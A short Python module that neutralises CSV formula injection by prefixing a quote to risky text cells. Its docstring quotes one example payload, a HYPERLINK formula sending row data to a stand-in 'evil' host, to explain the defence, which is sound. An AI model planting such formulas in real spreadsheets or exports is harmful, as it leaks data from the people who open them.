"""CSV cells that stay text when opened in Excel or LibreOffice.

A cell starting with ``= + - @`` (or a tab or carriage return) is run as a formula by a
spreadsheet: ``=HYPERLINK("http://evil/?"&A1, "Click")`` typed into an extract would leak the
row when someone opens the metrics CSV or a quarantine file. Every CSV cpkit writes passes its
text through ``safe_cell`` (or ``safe_table``), which puts a ``'`` in front, as OWASP
recommends; Excel shows the text as typed. Numbers are written as numbers and left alone: -5
is a number, not a formula.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pyarrow as pa

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(TRIGGERS):
        return "'" + value
    return value


def safe_table(table: pa.Table) -> pa.Table:
    """Every text column of ``table`` through ``safe_cell`` (vectorised)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for column in table.columns:
        if pa.types.is_string(column.type) or pa.types.is_large_string(column.type):
            risky = pc.fill_null(pc.match_substring_regex(column, r"^[=+\-@\t\r]"), False)
            column = pc.if_else(risky, pc.binary_join_element_wise("'", column, ""), column)
        columns.append(column)
    return pa.table(columns, names=table.column_names)
